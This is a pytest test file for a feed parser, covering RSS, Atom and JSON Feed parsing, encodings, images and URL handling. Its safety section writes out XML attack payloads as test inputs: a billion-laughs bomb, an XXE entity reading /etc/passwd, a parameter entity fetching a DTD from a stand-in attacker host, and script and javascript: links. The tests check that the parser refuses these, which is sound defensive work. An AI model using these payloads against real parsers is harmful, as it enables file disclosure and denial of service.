"""parse_feed on real feeds (read in place from ../shared/data) and on crafted documents."""

from __future__ import annotations

import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import urljoin, urlsplit

import feedparser
import pytest

from tests.conftest import SHARED_DATA
from tidings.errors import FeedParseError
from tidings.ingest.feeds import ParsedFeed, canonicalize_url, parse_feed

FETCHED = datetime(2030, 1, 2, 3, 4, 5, tzinfo=UTC)
REAL_FEED_DIRS = ("feeds/rss-parser/test/input", "feeds/feed-rs/fixture")
# Files in those folders that are not feeds at all: an HTML "document moved" page, and
# feed-rs's plain XML samples (its tests of the XML layer, not of feeds).
NOT_FEEDS = {"unrecognized.rss", "xml_sample_1.xml", "xml_sample_2.xml", "xml_iso8859.xml"}
# Real feeds feedparser reads without a single entry: a Reuters feed truncated mid-document.
UNREADABLE = {"rss_2.0_invalid_1.xml"}


def _real_feed_files() -> list[str]:
    names = []
    for folder in REAL_FEED_DIRS:
        base = SHARED_DATA / folder
        if base.is_dir():
            names += sorted(
                path.relative_to(SHARED_DATA).as_posix()
                for path in base.rglob("*")
                if path.is_file()
                and not path.name.endswith(".serde.json")
                and path.name not in NOT_FEEDS | UNREADABLE
            )
    # Without the data, one placeholder whose test skips through the shared_data fixture.
    return names or ["(shared data absent)"]


def _serde_fixtures() -> list[str]:
    base = SHARED_DATA / "feeds/feed-rs/fixture"
    names = sorted(p.relative_to(SHARED_DATA).as_posix() for p in base.rglob("*.serde.json"))
    return names or ["(shared data absent)"]


def parse(content: bytes, url: str = "https://example.com/feed.xml", **kwargs: str) -> ParsedFeed:
    return parse_feed(content, url=url, **kwargs)


def parse_file(path: Path, url: str = "https://example.com/feed.xml") -> ParsedFeed:
    return parse(path.read_bytes(), url=url)


def _has_any(entry: Any, *keys: str) -> bool:
    return any(entry.get(key) for key in keys)


def _is_utc(value: datetime | None) -> bool:
    return value is not None and value.utcoffset() == timedelta(0)


# --- every real feed -----------------------------------------------------------------------


@pytest.mark.data
@pytest.mark.parametrize("relative", _real_feed_files())
def test_real_feed_gives_one_article_per_entry(shared_data: Path, relative: str) -> None:
    path = shared_data / relative
    content = path.read_bytes()
    feed = parse(content)

    if path.suffix == ".json":
        entries = json.loads(content)["items"]
        showable = [e for e in entries if _has_any(e, "title", "url", "content_html", "summary")]
    else:
        entries = feedparser.parse(io.BytesIO(content)).entries
        # feedparser copies an Atom id into ``link``; a tag: URI is no link to follow.
        showable = [
            e
            for e in entries
            if _has_any(e, "title", "summary", "content")
            or str(e.get("link", "")).startswith(("http:", "https:", "/"))
        ]
    # One article per entry that has anything to show; empty ones (an Atom entry with only
    # an id) are skipped and the skip is named in the warning.
    assert len(feed.articles) == len(showable)
    if len(showable) < len(entries):
        assert feed.warning and "skipped" in feed.warning
    assert feed.format != "unknown"
    for article in feed.articles:
        # Untitled entries (RSS 0.92 items with only a description) get a headline made
        # from their text, so every article has a title or a link.
        assert article.title or article.url
        assert article.published is None or _is_utc(article.published)
        assert article.updated is None or _is_utc(article.updated)
        if article.url:
            assert urlsplit(article.url).scheme in ("http", "https")
            # A link several entries share (a podcast's home page) is not their identity.
            shared = sum(1 for a in feed.articles if a.url == article.url) > 1
            assert article.canonical_url or shared
        for image in article.images:
            assert urlsplit(image.url).scheme in ("http", "https")
        for text in (article.title, article.summary, article.body):
            assert text is None or (text == text.strip() and "\x00" not in text)
        if article.title:
            assert "  " not in article.title and "\n" not in article.title


@pytest.mark.data
@pytest.mark.parametrize("relative", _serde_fixtures())
def test_matches_feed_rs_expectations(shared_data: Path, relative: str) -> None:
    """Count, titles, links and dates agree with what feed-rs expects of the same file."""
    expected_path = shared_data / relative
    stem = expected_path.name.removesuffix(".serde.json")
    source = next(p for p in expected_path.parent.glob(stem + ".*") if p != expected_path)
    expected = json.loads(expected_path.read_text(encoding="utf-8"))
    feed = parse_file(source)

    assert len(feed.articles) == len(expected["entries"])
    for article, entry in zip(feed.articles, expected["entries"], strict=True):
        title = (entry.get("title") or {}).get("content")
        if title is not None:
            assert article.title == " ".join(title.split())
        links = [link["href"] for link in entry["links"]]
        if links and article.url is not None:
            # feed-rs keeps relative links relative and lower-cases hosts; we resolve them.
            accepted = {urljoin("https://example.com/feed.xml", h) for h in links}
            assert canonicalize_url(article.url) in {canonicalize_url(h) for h in accepted}
        when = entry.get("published") or entry.get("updated")
        if when and "ilmessaggero" not in stem:
            parsed = datetime.fromisoformat(when.replace("Z", "+00:00"))
            assert abs(article.published - parsed) < timedelta(seconds=1)  # type: ignore[operator]


# --- links, bases, encodings ---------------------------------------------------------------


@pytest.mark.data
def test_atom_relative_links_resolve_against_the_feed_url(shared_data: Path) -> None:
    feed = parse_file(
        shared_data / "feeds/feed-rs/fixture/atom/atom_relative.xml",
        url="https://example.com/blog/feed.xml",
    )
    assert feed.site == "https://example.com/blog/"
    (article,) = feed.articles
    assert article.url == "https://example.com/blog/2003/12/13/atom03"
    assert article.guid == "urn:uuid:1225c695-cfb8-4ebb-aaaa-80da344efa6a"
    assert article.authors == ("Jane Doe",)  # inherited from the Atom feed


@pytest.mark.data
def test_atom_xml_base_applies_to_content(shared_data: Path) -> None:
    (article,) = parse_file(shared_data / "feeds/feed-rs/fixture/atom/atom_xml_base.xml").articles
    assert 'src="https://numi.st/post/2022/travel-uke/IMG_1232.jpeg"' in (
        article.content_html or ""
    )
    # No link element: the id, being a URL, stands in for it.
    assert article.url == "https://numi.st/post/2022/travel-uke"
    assert article.title == "my cool entry title"


@pytest.mark.data
def test_rss_relative_enclosure_becomes_an_absolute_image(shared_data: Path) -> None:
    feed = parse_file(
        shared_data / "feeds/feed-rs/fixture/rss2/rss_2.0_relurl_2.xml",
        url="https://kryogenix.org/random/relurleg.xml",
    )
    (article,) = feed.articles
    assert [i.url for i in article.images] == [
        "https://kryogenix.org/images/me/hackergotchi-simpler.png"
    ]


@pytest.mark.data
def test_rss_item_xml_base_and_email_author(shared_data: Path) -> None:
    feed = parse_file(shared_data / "feeds/feed-rs/fixture/rss2/rss_2.0_relurl_1.xml")
    first = feed.articles[0]
    assert first.url == "https://insanity.industries/post/pareto-optimal-compression/"
    # <author>jonas@insanity.industries (Jonas Große Sundrup)</author>
    assert first.authors == ("Jonas Große Sundrup",)
    assert first.published == datetime(2021, 3, 2, 22, 39, 15, tzinfo=UTC)
    assert feed.language == "en-US"


@pytest.mark.data
@pytest.mark.parametrize(
    ("relative", "title", "needle"),
    [
        ("feeds/rss-parser/test/input/uolNoticias.rss", "UOL Noticias", "simulações"),
        ("feeds/rss-parser/test/input/encoding.rss", "Jornal de Notícias - Últimas Notícias", "ç"),
        (
            "feeds/feed-rs/fixture/rss0/rss_0.91_encoding_1.xml",
            "Dicas-L: Dicas técnicas de Linux e Software Livre",
            "é",
        ),
        (
            "feeds/feed-rs/fixture/rss0/rss_0.91_encoding_2.xml",
            "Tribunal de Justiça do Estado do Rio Grande do Sul",
            "ç",
        ),
        ("feeds/feed-rs/fixture/rss1/rss_1.0_iso8859.xml", "Golem.de", "ü"),
    ],
)
def test_latin1_feeds_decode_right(
    shared_data: Path, relative: str, title: str, needle: str
) -> None:
    feed = parse_file(shared_data / relative)
    assert feed.title == title
    texts = " ".join(
        t for a in feed.articles for t in (a.title, a.summary, a.body, feed.title) if t
    )
    assert needle in texts
    assert "\ufffd" not in texts and "Ã" not in texts  # no replacement chars, no mojibake


def test_http_charset_wins_over_the_default() -> None:
    content = "<rss version='2.0'><channel><title>Café</title></channel></rss>".encode("latin-1")
    assert parse(content, content_type="text/xml; charset=ISO-8859-1").title == "Café"
    assert parse(content, content_type="text/xml; charset=ISO-8859-1").warning is None
    # Without it the bytes are not UTF-8: read anyway, with a warning that says so.
    guessed = parse(content)
    assert guessed.title == "Café"
    assert guessed.warning is not None and "encoding" in guessed.warning


def test_utf16_feed() -> None:
    content = '<?xml version="1.0" encoding="utf-16"?><rss version="2.0"><channel>' + (
        "<title>Zürich</title><item><title>Grüezi</title></item></channel></rss>"
    )
    feed = parse(content.encode("utf-16"))
    assert feed.title == "Zürich"
    assert [a.title for a in feed.articles] == ["Grüezi"]


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be"])
@pytest.mark.parametrize(
    ("content_type", "claim"),
    [
        ("application/rss+xml; charset=utf-8", "the server said utf-8"),
        ("application/rss+xml", "the document declares utf-8"),
    ],
)
def test_utf16_labelled_utf8_is_read_and_named(codec: str, content_type: str, claim: str) -> None:
    """A UTF-16 body under a UTF-8 label (the server's charset, or a declaration copied from
    a template) used to be "not a feed: an XML document whose root element is <rss>"."""
    items = "".join(
        f"<item><title>Grüezi {n}</title><link>https://news.example/{n}</link>"
        f"<description>{'Zürich news. ' * 40}</description></item>"
        for n in range(20)
    )
    content = (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>'
        f"<title>Zürich</title>{items}</channel></rss>"
    )
    feed = parse(content.encode(codec), content_type=content_type)
    assert feed.title == "Zürich"
    assert [a.title for a in feed.articles] == [f"Grüezi {n}" for n in range(20)]
    assert feed.warning == (
        f"wrong character encoding: {claim}, but the text is UTF-16; read as UTF-16"
    )


@pytest.mark.data
def test_ttl_from_rss_ttl_and_syndication_module(shared_data: Path) -> None:
    inputs = shared_data / "feeds/rss-parser/test/input"
    assert parse_file(inputs / "narro.rss").ttl == 20 * 60
    assert parse_file(inputs / "craigslist.rss").ttl == 3600 // 6  # sy: hourly, 6 times
    assert parse_file(inputs / "guardian.rss").ttl is None


# --- images, captions, credits -------------------------------------------------------------


@pytest.mark.data
def test_guardian_media_credits_and_widest_rendition(shared_data: Path) -> None:
    feed = parse_file(shared_data / "feeds/rss-parser/test/input/guardian.rss")
    article = feed.articles[0]
    assert article.title == "Trump State of the Union address promised unity but emphasized discord"
    assert article.authors == ("David Smith in Washington",)
    (image,) = article.images  # w=140 and w=460 of one picture count once; the wider wins
    assert "w=460" in image.url
    assert image.credit == "Photograph: Networ/Sipa USA/REX/Shutterstock"
    assert "Donald Trump" in article.tags
    assert article.language == "en-GB"


@pytest.mark.data
def test_media_description_is_a_caption_not_the_summary(shared_data: Path) -> None:
    path = shared_data / "feeds/feed-rs/fixture/atom/atom_mediarss_newscred_1.xml"
    (article,) = parse_file(path).articles
    first = article.images[0]
    assert (first.caption, first.credit) == ("media description", "media credit")
    assert article.summary is None  # feedparser would have said "media description"
    assert article.body == "Some text"


def test_media_caption_in_rss_does_not_become_content() -> None:
    content = b"""<rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/"><channel>
      <item><title>T</title><link>https://news.example/a</link>
        <description>The teaser.</description>
        <media:content url="https://img.example/a.jpg" medium="image">
          <media:description>A harbour at dawn.</media:description>
          <media:credit>Reuters/Jane Roe</media:credit>
        </media:content>
        <media:thumbnail url="https://img.example/a-small.jpg"/>
      </item></channel></rss>"""
    (article,) = parse(content).articles
    assert article.summary == "The teaser."
    assert article.content_html is None and article.body is None
    assert [(i.url, i.caption, i.credit) for i in article.images] == [
        ("https://img.example/a.jpg", "A harbour at dawn.", "Reuters/Jane Roe"),
        ("https://img.example/a-small.jpg", None, None),
    ]


def test_media_group_caption_and_non_image_media_skipped() -> None:
    content = b"""<rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/"><channel>
      <item><title>T</title>
        <media:group>
          <media:description>Group caption</media:description>
          <media:content url="https://img.example/v.mp4" medium="video"/>
          <media:content url="https://img.example/p.png" type="image/png"/>
        </media:group>
        <enclosure url="https://cdn.example/ep.mp3" type="audio/mpeg" length="1"/>
        <enclosure url="https://cdn.example/pic.webp" type="image/webp" length="1"/>
      </item></channel></rss>"""
    (article,) = parse(content).articles
    assert [(i.url, i.caption) for i in article.images] == [
        ("https://img.example/p.png", "Group caption"),
        ("https://cdn.example/pic.webp", None),
    ]


# --- text ----------------------------------------------------------------------------------


def test_entry_fields_are_normalised() -> None:
    content = b"""<?xml version="1.0"?>
    <rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
         xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>  Wire  </title>
      <language>en-gb</language>
      <item>
        <title>Fish &amp;amp; chips:
           a &lt;b&gt;history&lt;/b&gt;</title>
        <link>HTTPS://News.Example:443/a?id=7&amp;utm_source=rss&amp;fbclid=x#top</link>
        <guid isPermaLink="false">abc-1</guid>
        <dc:creator>By Jane Doe</dc:creator><dc:creator>Jane Doe</dc:creator>
        <category>World</category><category>world</category><category>Europe</category>
        <pubDate>Tue, 10 Jun 2025 08:00:00 +0200</pubDate>
        <description>&lt;p&gt;Short &amp;amp; sweet&lt;/p&gt;</description>
        <content:encoded><![CDATA[<p>First <b>para</b>.</p><script>alert(1)</script>
          <p>Second<br>line</p><style>p{}</style><p><a href="/more">More</a></p>]]>
        </content:encoded>
      </item></channel></rss>"""
    feed = parse(content, url="https://news.example/feeds/world.xml")
    assert (feed.title, feed.language, feed.format) == ("Wire", "en-GB", "rss20")
    (article,) = feed.articles
    assert article.title == "Fish & chips: a history"
    assert article.url is not None and article.url.endswith("/a?id=7&utm_source=rss&fbclid=x#top")
    assert article.canonical_url == "https://news.example/a?id=7"
    assert article.guid == "abc-1"
    assert article.authors == ("Jane Doe",)
    assert article.tags == ("World", "Europe")
    assert article.published == datetime(2025, 6, 10, 6, 0, tzinfo=UTC)
    assert article.updated is None
    assert article.summary == "Short & sweet"
    assert article.body == "First para.\n\nSecond\nline\n\nMore"
    assert article.content_html is not None
    assert '<a href="https://news.example/more">' in article.content_html
    assert "<script>alert(1)</script>" in article.content_html  # raw: sanitised when shown
    assert article.language == "en-GB"


def test_entries_without_dates_get_the_fetch_time() -> None:
    content = b"""<rss version="2.0"><channel><title>x</title>
      <item><title>no date</title></item>
      <item><title>bad date</title><pubDate>not a date at all</pubDate></item>
      <item><title>dated</title><pubDate>Mon, 02 Jun 2025 10:00:00 GMT</pubDate></item>
    </channel></rss>"""
    feed = parse_feed(content, url="https://x.example/f")
    published = [a.published for a in feed.articles]
    # Undated entries stay undated here; storage dates them when it first sees them.
    assert published[:2] == [None, None]
    assert published[2] == datetime(2025, 6, 2, 10, tzinfo=UTC)


def test_updated_only_entry_uses_it_as_published() -> None:
    content = b"""<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title>
      <entry><id>tag:x,2025:1</id><title>e</title><updated>2025-03-01T12:00:00+01:00</updated>
      </entry></feed>"""
    (article,) = parse(content).articles
    assert article.published == article.updated == datetime(2025, 3, 1, 11, tzinfo=UTC)
    assert article.url is None and article.guid == "tag:x,2025:1"  # a tag: id is no link


def test_non_url_guid_is_neither_resolved_nor_a_link() -> None:
    content = b"""<rss version="2.0"><channel><item><title>t</title><guid>12345</guid>
      </item></channel></rss>"""
    (article,) = parse(content).articles
    assert (article.guid, article.url, article.canonical_url) == ("12345", None, None)


def test_localised_dates() -> None:
    content = b"""<rss version="2.0"><channel><item><title>t</title>
      <pubDate>mer, 16 nov 2022 00:38:15 +0100</pubDate></item></channel></rss>"""
    (article,) = parse(content).articles
    assert article.published == datetime(2022, 11, 15, 23, 38, 15, tzinfo=UTC)


def test_javascript_links_are_dropped() -> None:
    content = b"""<rss version="2.0"><channel><item><title>t</title>
      <link>javascript:alert(1)</link></item></channel></rss>"""
    (article,) = parse(content).articles
    assert article.url is None


def test_canonicalize_url() -> None:
    assert canonicalize_url("HTTP://Example.COM:80") == "http://example.com/"
    assert (
        canonicalize_url("https://x.example/a/?b=1&utm_medium=rss&UTM_Source=x&gclid=1&c=&d=2#f")
        == "https://x.example/a/?b=1&c=&d=2"
    )
    assert canonicalize_url("https://www.bbc.co.uk/news/1?at_medium=RSS&at_campaign=rss") == (
        "https://www.bbc.co.uk/news/1"
    )
    assert canonicalize_url("https://x.example:8443/p") == "https://x.example:8443/p"


# --- JSON Feed -----------------------------------------------------------------------------


@pytest.mark.data
def test_json_feed_1_1(shared_data: Path) -> None:
    path = shared_data / "feeds/feed-rs/fixture/jsonfeed/jsonfeed_elastic_1.1.json"
    feed = parse_file(path)
    assert feed.format == "json11"
    assert feed.title == "Blog \u2013 InfluxData"  # "&#8211;" in the source
    assert feed.language == "en-US"
    first = feed.articles[0]
    assert first.title == "InfluxDB vs. Graphite for Time Series Data & Metrics Benchmark"
    assert first.published == datetime(2019, 5, 31, 19, 17, 58, tzinfo=UTC)  # an RFC 822 date
    assert first.body and first.body.startswith("This blog post has been updated")


@pytest.mark.data
def test_json_feed_1_0(shared_data: Path) -> None:
    feed = parse_file(shared_data / "feeds/feed-rs/fixture/jsonfeed/jsonfeed_example_1.json")
    assert feed.format == "json10"
    assert (feed.title, feed.site) == ("Daring Fireball", "https://daringfireball.net/")
    first = feed.articles[0]
    assert first.url == "https://daringfireball.net/linked/2020/01/24/bezos-iphone-x"
    assert first.authors == ("John Gruber",)
    assert first.content_html and first.content_html.startswith("<p>Good summary")
    assert first.body and first.body.startswith("Good summary from The New York Times.")


@pytest.mark.data
def test_feedparser_suite_json_example(shared_data: Path) -> None:
    feed = parse_file(shared_data / "feeds/feedparser-tests/tests/json/example.json")
    assert feed.title == "My Example Feed" and len(feed.articles) == 2
    second = feed.articles[1]
    assert second.body == "Hello, world!"  # the <script> is not text
    assert second.authors == ("you",)
    assert feed.articles[0].tags == ("test", "JSON")
    assert feed.articles[0].body == "This is a second item."


def test_json_feed_details() -> None:
    content = json.dumps(
        {
            "version": "https://jsonfeed.org/version/1.1",
            "title": "J",
            "authors": [{"name": "Feed Author"}],
            "items": [
                {
                    "id": 42,
                    "url": "/posts/42",
                    "title": "  Hello\n world ",
                    "content_text": "one\n\ntwo",
                    "summary": "s",
                    "image": "/img/42.jpg",
                    "date_published": "2025-01-01T10:00:00+01:00",
                    "attachments": [{"url": "https://cdn.example/a.png", "mime_type": "image/png"}],
                },
                {"title": "no id, no date"},
                "not an object",
            ],
        }
    ).encode()
    feed = parse(content, url="https://blog.example/feed.json")
    assert feed.warning is not None and "skipped" in feed.warning
    first, second = feed.articles
    assert (first.guid, first.url) == ("42", "https://blog.example/posts/42")
    assert (first.title, first.body, first.summary) == ("Hello world", "one\n\ntwo", "s")
    assert first.content_html is None
    assert first.authors == ("Feed Author",)
    assert first.published == datetime(2025, 1, 1, 9, tzinfo=UTC)
    assert [i.url for i in first.images] == [
        "https://blog.example/img/42.jpg",
        "https://cdn.example/a.png",
    ]
    assert second.published is None and second.guid is None


def test_json_that_is_not_a_json_feed() -> None:
    with pytest.raises(FeedParseError, match="not a JSON Feed"):
        parse(b'{"hello": "world"}')
    with pytest.raises(FeedParseError, match="invalid JSON"):
        parse(b'{"version": "https://jsonfeed.org/version/1", ')
    with pytest.raises(FeedParseError, match="invalid JSON"):
        parse(b"[" * 100_000, content_type="application/feed+json")


# --- safety and refusals -------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<rss version="2.0"><channel><title>&lol9;</title><item><title>&lol9;</title></item></channel></rss>
"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>&xxe;</title><item><title>t</title></item></channel></rss>
"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<rss version="2.0"><channel><item><title>t</title></item></channel></rss>
"""


@pytest.mark.parametrize(
    "content",
    [
        BILLION_LAUGHS,
        XXE,
        PARAMETER_ENTITY,
        BILLION_LAUGHS.decode().replace('"1.0"?>', '"1.0" encoding="utf-16"?>').encode("utf-16"),
        b"\n\n" + XXE,
        # A quoted "]>" must not end the DTD early and hide the declaration after it.
        b'<!DOCTYPE r [<!ATTLIST a b CDATA "]>"> <!ENTITY e "x">]><rss version="2.0"/>',
    ],
    ids=["billion-laughs", "xxe", "parameter-entity", "utf-16", "leading-space", "quoted-end"],
)
def test_entity_declarations_are_refused(content: bytes) -> None:
    with pytest.raises(FeedParseError, match="declares XML entities"):
        parse(content)


def test_a_plain_doctype_is_fine() -> None:
    content = b"""<?xml version="1.0"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"
  "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Old</title><link>http://old.example/</link>
<item><title>Item</title><link>http://old.example/1</link>
<description><![CDATA[Text that mentions <!ENTITY in passing]]></description></item>
</channel></rss>"""
    feed = parse(content)
    assert feed.format == "rss091n"
    assert [a.title for a in feed.articles] == ["Item"]


@pytest.mark.data
def test_feedparser_suite_doctypes(shared_data: Path) -> None:
    tests = shared_data / "feeds/feedparser-tests/tests/wellformed"
    with pytest.raises(FeedParseError, match="declares XML entities"):
        parse_file(tests / "rss/entity_in_doctype.xml")
    with pytest.raises(FeedParseError, match="declares XML entities"):
        parse_file(tests / "rdf/doctype_contains_entity_decl.xml")
    assert parse_file(tests / "rss/rss_version_091_netscape.xml").format == "rss091n"
    # "<!DOCTYPE" as text in a description is no DTD.
    assert len(parse_file(tests / "rss/item_description_not_a_doctype2.xml").articles) == 1


@pytest.mark.parametrize(
    "content",
    [
        b"<!DOCTYPE html>\n<html><head><title>Home</title></head><body><p>Hi</p></body></html>",
        b'<?xml version="1.0"?>\n<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
        b'"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">\n'
        b'<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
        b"<!-- cached --><HTML><BODY>moved</BODY></HTML>",
    ],
)
def test_html_pages_are_refused(content: bytes) -> None:
    with pytest.raises(FeedParseError, match="not a feed: looks like an HTML page"):
        parse(content)


@pytest.mark.data
def test_real_html_page_is_refused(shared_data: Path) -> None:
    with pytest.raises(FeedParseError, match="HTML page"):
        parse_file(shared_data / "feeds/rss-parser/test/input/unrecognized.rss")


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "empty"),
        (b"  \n\t ", "empty"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "not a feed"),
        (bytes(range(256)) * 4, "not a feed"),
        (b"<catalog><book/></catalog>", "root element is <catalog>"),
        (b"just some words", "not a feed"),
        # feedparser opens a str or bytes that names a file; we never let it.
        (b"/etc/passwd", "not a feed"),
    ],
)
def test_non_feeds_are_refused(content: bytes, message: str) -> None:
    with pytest.raises(FeedParseError, match=message) as caught:
        parse(content)
    assert caught.value.resource == "https://example.com/feed.xml"


# --- ill-formed feeds ----------------------------------------------------------------------


@pytest.mark.data
def test_illformed_feed_keeps_entries_and_warns(shared_data: Path) -> None:
    path = (
        shared_data
        / "feeds/feedparser-tests/tests/illformed/rss_item_link_corrupted_ampersands.xml"
    )
    feed = parse_file(path)
    assert feed.warning is not None and feed.warning.startswith("ill-formed XML, read leniently")
    assert "\n" not in feed.warning
    (article,) = feed.articles
    assert article.url == "http://link/get?a=1&b=2"


@pytest.mark.data
def test_real_feed_with_undefined_entity_warns(shared_data: Path) -> None:
    feed = parse_file(shared_data / "feeds/feed-rs/fixture/rss2/rss_2.0_dbengines.xml")
    assert feed.warning == "ill-formed XML, read leniently: undefined entity at line 9"
    assert len(feed.articles) == 1 and feed.articles[0].title


@pytest.mark.data
def test_truncated_feed_is_an_empty_feed_with_a_warning(shared_data: Path) -> None:
    feed = parse_file(shared_data / "feeds/feed-rs/fixture/rss2/rss_2.0_invalid_1.xml")
    assert feed.articles == ()
    assert feed.title == "Reuters: Most Read Articles"
    assert feed.warning is not None and "no element found" in feed.warning


def test_valid_feed_without_entries() -> None:
    feed = parse(b'<rss version="2.0"><channel><title>Quiet</title></channel></rss>')
    assert (feed.articles, feed.warning, feed.title) == ((), None, "Quiet")


def test_leading_blank_line_is_not_a_reason_to_warn() -> None:
    feed = parse(b'\n\n<?xml version="1.0"?><rss version="2.0"><channel><item><title>t</title>'
                 b"</item></channel></rss>")  # fmt: skip
    assert feed.warning is None and len(feed.articles) == 1


@pytest.mark.data
def test_whole_feedparser_suite_never_crashes(shared_data: Path) -> None:
    """2,106 crafted documents: each is a feed or a FeedParseError, nothing else."""
    root = shared_data / "feeds/feedparser-tests/tests"
    parsed = refused = 0
    for path in sorted(root.rglob("*")):
        if not path.is_file():
            continue
        try:
            feed = parse_file(path)
        except FeedParseError:
            refused += 1
            continue
        parsed += 1
        assert all(a.published is None or _is_utc(a.published) for a in feed.articles)
    assert parsed > 2000 and refused < 20


def test_many_entries_parse_linearly_sized() -> None:
    """A large generated feed parses completely (speed is measured by `tidings bench`)."""
    items = "".join(
        f"<item><title>Story {i}</title><link>https://n.example/{i}</link>"
        f"<description>&lt;p&gt;Body {i}&lt;/p&gt;</description></item>"
        for i in range(3000)
    )
    feed = parse(f'<rss version="2.0"><channel>{items}</channel></rss>'.encode())
    assert len(feed.articles) == 3000
    assert feed.articles[-1].summary == "Body 2999"


def test_fragments_stay_in_canonical_urls_only_when_they_tell_entries_apart() -> None:
    content = b"""<rss version="2.0"><channel>
      <item><title>a</title><link>https://s.example/day#post-1</link></item>
      <item><title>b</title><link>https://s.example/day#post-2</link></item>
      <item><title>c</title><link>https://s.example/other#comments</link></item>
    </channel></rss>"""
    assert [a.canonical_url for a in parse(content).articles] == [
        "https://s.example/day#post-1",
        "https://s.example/day#post-2",
        "https://s.example/other",
    ]


def test_untitled_entry_gets_a_headline_from_its_text() -> None:
    long_text = "word " * 40
    feed = parse(
        b"<rss version='0.92'><channel><title>x</title>"
        b"<item><description>Kevin started a weblog. It is cool.</description></item>"
        b"<item><description>" + long_text.encode() + b"</description></item>"
        b"<item><link>https://x.example/only-a-link</link></item>"
        b"<item><guid isPermaLink='false'>only-an-id</guid></item>"
        b"</channel></rss>"
    )
    titles = [a.title for a in feed.articles]
    assert titles[0] == "Kevin started a weblog."
    assert titles[1] is not None and titles[1].endswith("…") and len(titles[1]) <= 91
    assert titles[2] is None and feed.articles[2].url == "https://x.example/only-a-link"
    assert len(feed.articles) == 3
    assert feed.warning == "1 entry with no title, link or text skipped"


def test_link_shared_by_several_entries_is_not_their_identity() -> None:
    feed = parse(
        b"<rss version='2.0'><channel><title>Podcast</title>"
        b"<item><guid isPermaLink='false'>ep1</guid><title>Episode 1</title>"
        b"<link>https://pod.example/</link></item>"
        b"<item><guid isPermaLink='false'>ep2</guid><title>Episode 2</title>"
        b"<link>https://pod.example/</link></item>"
        b"<item><guid isPermaLink='false'>n3</guid><title>Own page</title>"
        b"<link>https://pod.example/n3</link></item>"
        b"</channel></rss>"
    )
    assert [a.canonical_url for a in feed.articles] == [None, None, "https://pod.example/n3"]
    assert [a.url for a in feed.articles][:2] == ["https://pod.example/", "https://pod.example/"]
